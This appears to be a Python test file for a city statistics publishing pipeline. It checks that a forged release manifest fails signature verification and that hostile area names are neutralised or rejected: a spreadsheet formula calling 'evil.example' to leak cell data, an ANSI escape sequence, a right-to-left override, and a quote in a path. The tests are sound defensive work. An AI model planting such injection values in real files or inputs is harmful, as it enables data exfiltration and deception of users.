"""Hostile input through the whole pipeline (issue 15, classes 7 and 8), on a copy of the released
test city: a forged manifest, a formula as an area name, a control character in an area name."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile

from typer.testing import CliRunner

from orchestration.cli import app
from orchestration.ingest.loader import sha256_file
from orchestration.release import diff, find_release, list_releases, verify
from orchestration.release.store import content_digest
from tests.helpers import accept_as_demo, tree_digest

runner = CliRunner()
AREAS = ("gebiete", "gebietsgliederung.csv")
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1;"Altstadt")'


def _rename_first(settings, level: str, name: str) -> str:
    """Give the first unit of `level` in the Gebietsgliederung another name; returns its code."""
    path = settings.raw_dir.joinpath(*AREAS)
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig")
    newline = "\r\n" if "\r\n" in text else "\n"
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header = rows[0]
    at = next(i for i, r in enumerate(rows[1:], start=1) if r[header.index("Ebene")] == level)
    rows[at][header.index("Name")] = name
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator=newline).writerows(rows)
    path.write_bytes(out.getvalue().encode("utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "utf-8"))
    accept_as_demo(settings.raw_dir, path)  # a delivery of the demo city: the demo key may pseudonymise it
    return rows[at][header.index("Schluessel")]


def test_a_forged_manifest_fails_verify_and_the_release_is_signed(released_copy):
    settings = released_copy
    release = find_release(settings.releases_dir, "latest")
    m = release.manifest()
    assert m["signature"]["demo_key"] is True and m["signature"]["algorithm"] == "Ed25519"
    assert {"signing_key.pub"} <= {o["path"] for o in m["outputs"]}
    assert (release.path / "manifest.sig").is_file()
    assert "DEMO-Schlüssel" in (release.path / "LIESMICH.txt").read_text(encoding="utf-8")
    ok = runner.invoke(app, ["release", "verify"], env=settings.env())
    assert ok.exit_code == 0 and "DEMO key" in ok.output, ok.output

    # the attacker changes a value and makes every checksum in the manifest agree again
    for p in (release.path, release.path / "data"):
        p.chmod(0o755)
    target = release.path / "data" / "indicator_values.parquet"
    target.chmod(0o644)
    data = bytearray(target.read_bytes())
    data[len(data) // 2] ^= 0xFF
    target.write_bytes(bytes(data))
    digest = sha256_file(target)
    for item in m["outputs"]:
        if item["path"] == "data/indicator_values.parquet":
            item["sha256"] = digest
    m["public_tables"]["indicator_values"]["sha256"] = digest
    m["content_sha256"] = content_digest(m["public_tables"], m["geo"], m.get("atlas"), m.get("bericht"))
    manifest = release.path / "manifest.json"
    manifest.chmod(0o644)
    manifest.write_text(json.dumps(m, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")

    problems = verify(release)
    assert len(problems) == 1 and "manifest was changed after it was signed" in problems[0], problems
    result = runner.invoke(app, ["release", "verify"], env=settings.env())
    assert result.exit_code == 1 and "manifest was changed after it was signed" in result.output


def test_a_formula_as_area_name_is_published_inert_and_shown_by_diff(released_copy):
    settings = released_copy
    code = _rename_first(settings, "stadtteil", FORMULA)
    result = runner.invoke(app, ["run", "--force"], env=settings.env())
    assert result.exit_code == 0, result.output
    v1, v2 = list_releases(settings.releases_dir)
    assert v2.id == "2024-12-31/v2" and verify(v2) == []

    # the CSV: the OWASP apostrophe, numbers untouched
    raw = (v2.path / "tabellen" / "stadtteil.csv").read_bytes().decode("utf-8-sig")
    rows = [r for r in csv.reader(io.StringIO(raw, newline=""), delimiter=";")][1:]
    names = {r[1] for r in rows if r[0] == code}
    assert names == {"'" + FORMULA}
    assert not any(r[1].startswith("=") for r in rows)
    # the workbook: no formula anywhere
    with zipfile.ZipFile(v2.path / "tabellen" / "stadtteil.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    # the data files keep the name as delivered (they are data, not spreadsheets)
    geo = json.loads((v2.path / "geo" / "stadtteil.geojson").read_text(encoding="utf-8"))
    assert FORMULA in {f["properties"]["area_name"] for f in geo["features"]}

    # release diff tells that a name changed, even though the values did not
    change = diff(v1, v2)
    renamed = [c for c in change["attributes_changed"] if c["table"] == "areas" and c["column"] == "area_name"]
    assert [c["after"] for c in renamed] == [FORMULA]
    out = runner.invoke(app, ["release", "diff", "2024-12-31/v1", "2024-12-31/v2"], env=settings.env()).output
    assert "1 change(s) of area names or attributes" in out and "HYPERLINK" in out


def test_a_control_character_in_an_area_name_publishes_nothing(released_copy):
    settings = released_copy
    before = tree_digest(settings.releases_dir)
    _rename_first(settings, "stadtviertel", "Alt\x1b[2Jstadt")
    result = runner.invoke(app, ["run", "--force"], env=settings.env())
    # stopped by the dbt test plain_text on the staged names (exit 4); a contract that already
    # refuses control characters at ingest stops it earlier (exit 2): either way nothing is published
    assert result.exit_code in (2, 4), result.output
    assert "\x1b[2J" not in result.output
    if result.exit_code == 4:
        assert "plain_text" in result.output
    assert tree_digest(settings.releases_dir) == before


def test_an_invisible_direction_override_in_an_area_name_is_stopped_by_the_dbt_test(released_copy):
    """U+202E (right-to-left override) is no control character for the contract, but it makes
    "Alt\u202etdats" show as "Altstadt" reversed in part ("Trojan Source"): the dbt test plain_text
    on the staged names stops the run before anything is published."""
    settings = released_copy
    before = tree_digest(settings.releases_dir)
    _rename_first(settings, "stadtteil", "Alt\u202etdats")
    result = runner.invoke(app, ["run", "--force"], env=settings.env())
    assert result.exit_code == 4, result.output
    assert "plain_text" in result.output and "stg_geo__areas" in result.output
    assert tree_digest(settings.releases_dir) == before


def test_a_release_in_a_folder_with_a_quote_in_its_name_reads_as_any_other(built_city, tmp_path):
    """Paths go into SQL as literals where DuckDB takes no parameter (a Parquet file in a view, COPY …
    TO, ATTACH): a quote in a folder's name (an office's share `Stadt's Daten`) is doubled, not the
    end of the literal (warehouse.sql_string). The release's own readers: verification, the
    comparison of two releases, the atlas's and the report's checks, the index recomputed from the
    release, and the cells a later release keeps to."""
    import duckdb

    from orchestration.disclosure.history import release_cells
    from orchestration.indices.public import recompute_from_release
    from orchestration.release.atlas import check_atlas
    from orchestration.release.report import check_report
    from orchestration.release.store import Release

    original = find_release(built_city.releases_dir, "latest")
    folder = tmp_path / "Stadt's Daten" / original.stichtag.isoformat() / f"v{original.version}"
    shutil.copytree(original.path, folder)
    copy = Release(folder, original.stichtag, original.version)
    assert verify(copy) == verify(original) == []
    assert diff(original, copy) == diff(original, original)
    assert check_atlas(folder) == [] and check_report(folder, pdfs=False) == []
    recomputed = recompute_from_release(folder / "data")
    assert recomputed and all(len(published) > 0 for published, _ in recomputed.values())
    con = duckdb.connect()
    try:
        cells = release_cells(con, folder, copy.id)
        assert len(cells) > 0 and cells.equals(release_cells(con, original.path, copy.id))
    finally:
        con.close()
